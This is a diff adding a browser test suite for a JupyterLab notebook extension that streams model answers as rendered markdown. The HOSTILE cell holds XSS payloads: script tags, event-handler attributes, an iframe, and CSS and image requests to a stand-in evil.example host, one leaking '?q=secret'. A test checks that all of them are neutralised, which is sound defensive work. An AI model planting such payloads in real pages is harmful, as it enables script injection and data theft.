@@ -1,0 +1,183 @@
+"""The magics in a real JupyterLab page: what a person sees, presses and is kept from."""
+
+import os
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.lab import WAIT, Lab, Page, chromium, executable
+from tests.conftest import Project
+
+pytestmark = pytest.mark.browser
+
+MARKDOWN = """\
+%%gatewayx mock -p rate=8
+Some **bold** text, `code` and a [link](https://example.org/page).
+
+* one
+* two
+
+It costs $5 to $10, or \\(x\\), or $$y$$."""
+
+SLOW = "%%gatewayx mock -p rate=20\n" + "word " * 2000
+
+CLICK = """\
+import ipywidgets
+button, label = ipywidgets.Button(description="press"), ipywidgets.Label()
+button.on_click(lambda _: setattr(label, "value", "heard"))
+ipywidgets.VBox([button, label])"""
+
+HOSTILE = """\
+%%gatewayx mock
+<script>window.harmed = 1; alert(1)</script>
+<img src=x onerror="window.harmed = 1">
+<iframe src="https://evil.example/frame"></iframe>
+<style>@import url(https://evil.example/style);</style>
+<svg onload="window.harmed = 1"></svg>
+![picture](https://evil.example/picture.png?q=secret)
+[run](javascript:window.harmed=1)
+[data](data:text/html,<script>window.harmed=1</script>)
+<a href="https://evil.example" onclick="window.harmed = 1">press</a>
+
+| a |
+|---|
+| <b onmouseover="window.harmed = 1">b</b> |
+
+[fine](https://example.org/fine)"""
+
+CELLS = ["%load_ext gatewayx_nb", MARKDOWN, SLOW, CLICK, SLOW, HOSTILE, "%gatewayx"]
+LOAD, SHOWN, STOPPED, BUTTON, STREAM, ATTACK, STATE = range(len(CELLS))
+
+# https://www.w3.org/TR/WCAG22/#dfn-contrast-ratio, of an element's text as its opacity leaves it.
+_CONTRAST = """element => {
+    const rgb = text => text.match(/[\\d.]+/g).map(Number);
+    let box = element, alpha = 1;
+    for (let at = element; at; at = at.parentElement) alpha *= getComputedStyle(at).opacity;
+    while (box && (rgb(getComputedStyle(box).backgroundColor)[3] ?? 1) === 0)
+        box = box.parentElement;
+    const back = rgb(getComputedStyle(box).backgroundColor);
+    const text = rgb(getComputedStyle(element).color)
+        .slice(0, 3).map((part, i) => alpha * part + (1 - alpha) * back[i]);
+    const light = color => {
+        const [r, g, b] = color.slice(0, 3).map(part => part / 255)
+            .map(part => part <= .03928 ? part / 12.92 : ((part + .055) / 1.055) ** 2.4);
+        return .2126 * r + .7152 * g + .0722 * b;
+    };
+    const [low, high] = [light(text), light(back)].sort((a, b) => a - b);
+    return (high + .05) / (low + .05);
+}"""
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory):
+    """Give a JupyterLab in a project."""
+    if executable() is None:
+        missing = "no Chromium on this machine: apt-get install chromium"
+        if os.environ.get("CI") == "true":
+            pytest.fail(missing)
+        pytest.skip(missing)
+    folder = tmp_path_factory.mktemp("lab")
+    (folder / "home").mkdir()
+    with Lab(Project(folder / "project").root, folder / "home") as lab:
+        yield lab
+
+
+@pytest.fixture(scope="module")
+def page(lab):
+    """Give a page of a notebook that holds `CELLS`, the extension loaded."""
+    with chromium() as browser:
+        page = Page(browser, lab, CELLS)
+        page.run(LOAD)
+        page.run(STATE)
+        page.output(STATE).wait_for()  # the first output waits for the parts that show outputs
+        yield page
+
+
+def test_markdown_grows_and_is_shown_with_its_figures(page):
+    """Rendered while it comes; the line below tells model, seconds and tokens."""
+    page.start(SHOWN)
+    growing = page.output(SHOWN)
+    growing.locator("strong").wait_for()
+    assert "It costs" not in growing.inner_text()
+    page.ended(SHOWN)
+
+    assert growing.count() == 1
+    assert growing.locator("li").all_inner_texts() == ["one", "two"]
+    assert growing.locator("code").all_inner_texts() == ["code"]
+    link = growing.locator("a")
+    assert link.get_attribute("href") == "https://example.org/page"
+    assert "noopener" in link.get_attribute("rel")
+    expect(growing).to_contain_text(re.compile(r"mock:mock · \d\.\d s, .* 20 in, 21 out · \$0"))
+
+
+def test_money_is_no_mathematics(page):
+    """What a dollar sign pairs with the next is left as it was typed."""
+    page.tab.wait_for_timeout(500)  # a typesetter works after the output is there
+    shown = page.output(SHOWN)
+
+    expect(shown).to_contain_text("It costs $5 to $10, or (x), or $$y$$.")
+    assert shown.locator("mjx-container, .MathJax, .katex").count() == 0
+
+
+def test_the_stop_button_stops(page):
+    """The partial answer stays, with its mark; the error is one line."""
+    page.start(STOPPED)
+    expect(page.output(STOPPED)).to_contain_text("word word", timeout=WAIT)
+    page.stop()
+    page.ended(STOPPED)
+
+    shown = page.output(STOPPED)
+    expect(shown.first).to_contain_text("[mock] word word")
+    expect(shown.first).to_contain_text("· interrupted")
+    expect(shown.last).to_have_text("KeyboardInterrupt: stopped")
+    assert shown.count() == 2
+
+
+def test_a_click_is_heard_while_a_cell_streams(page):
+    """The widget answers at once, not when the cell ends."""
+    page.run(BUTTON)
+    page.start(STREAM)
+    expect(page.output(STREAM)).to_contain_text("word word", timeout=WAIT)
+
+    try:
+        page.tab.get_by_role("button", name="press").click()
+        expect(page.output(BUTTON)).to_contain_text("heard")
+        expect(page.cell(STREAM).locator(".jp-InputPrompt")).to_have_text("[*]:")
+    finally:
+        page.stop()
+        page.ended(STREAM)
+
+
+def test_a_hostile_answer_does_nothing(page):
+    """No script, handler, frame, style or picture of it acts; good links stay."""
+    page.run(ATTACK)
+    shown = page.output(ATTACK)
+    shown.hover()
+    page.tab.wait_for_timeout(500)  # what would load by itself has had the time to
+
+    hrefs = [link.get_attribute("href") for link in shown.locator("a").all()]
+    assert hrefs == ["https://example.org/fine"]
+    active = "script, img, iframe, style, svg, object, embed, form, input, video, audio, link"
+    assert shown.locator(active).count() == 0
+    assert "onmouseover" in shown.inner_text()
+    attributes = "output => [...output.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
+    names = set(shown.first.evaluate(attributes))
+    assert not [name for name in names if name.startswith("on")]
+    assert page.tab.evaluate("window.harmed") is None
+    assert page.foreign == []
+    assert page.dialogs == []
+
+
+@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
+def test_every_theme_is_readable(page, theme):
+    """Contrast of at least 4.5 to 1, WCAG's figure for text; of 3 for the muted line."""
+    page.command("apputils:change-theme", theme=theme)
+    page.tab.locator(f"body[data-jp-theme-name='{theme}']").wait_for(state="attached")
+
+    answer, state = page.output(SHOWN), page.output(STATE)
+    for text in (answer.locator("p").first, answer.locator("code").first, answer.locator("a")):
+        assert text.evaluate(_CONTRAST) >= 4.5
+    for text in (state.locator("td").first, state.locator("code").first):
+        assert text.evaluate(_CONTRAST) >= 4.5
+    assert answer.locator(".gatewayx-line").evaluate(_CONTRAST) >= 3
